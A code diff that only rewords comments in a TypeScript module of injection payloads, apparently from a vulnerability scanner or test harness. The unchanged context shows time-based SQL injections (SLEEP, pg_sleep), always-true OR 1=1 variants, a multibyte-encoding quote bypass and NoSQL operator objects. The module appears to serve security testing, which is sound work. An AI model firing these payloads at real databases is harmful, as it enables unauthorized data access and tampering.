@@ -1,4 +1,4 @@
-/** What is sent where text or a number belongs; an object goes as JSON, or in brackets where there is no JSON. */
+/** Payloads for a text or a number; an object goes as JSON, or in brackets where JSON is not accepted. */
 export type Payload = string | object;
 
 /** Percent-encoded bytes: in GBK and Big5 the quote or backslash is the second half of a character. */
@@ -9,12 +9,12 @@ export const BYTES = [
   '%c0%a7%20OR%201=1#',
 ];
 
-/** Text that every engine holds for nothing but text: what an attack is compared with. */
+/** Text that is harmless on every engine: the baseline of an attack. */
 export const HARMLESS = 'zzz-nobody-is-called-so';
 
 const lines = (text: string) => text.trim().split('\n');
 
-/** These wait, or work for seconds, where they are run. */
+/** Payloads that wait, or work for seconds, when executed. */
 export const TIMED: Payload[] = lines(String.raw`
 1 AND SLEEP(5)
 1' AND SLEEP(5)-- -
@@ -31,7 +31,7 @@ export const TIMED: Payload[] = lines(String.raw`
 '||pg_sleep(5)-- -
 `);
 
-/** These answer at once where they are run, with more than they should, or by changing something. */
+/** Payloads that answer at once when executed, with too many rows or by changing something. */
 export const UNTIMED: Payload[] = [
   // Always true, in every kind of quote and bracket, and with comments for blanks.
   ...lines(String.raw`
@@ -118,7 +118,7 @@ user_id\` OR 1=1-- -
 *
 reference=reference OR reference
 `).map((line) => line.replace('\\`', '`')),
-  // What drivers and mappers take for more than a value.
+  // Values that drivers and mappers take for more than a value.
   { $gt: '' },
   { $ne: null },
   { user_id: 1 },
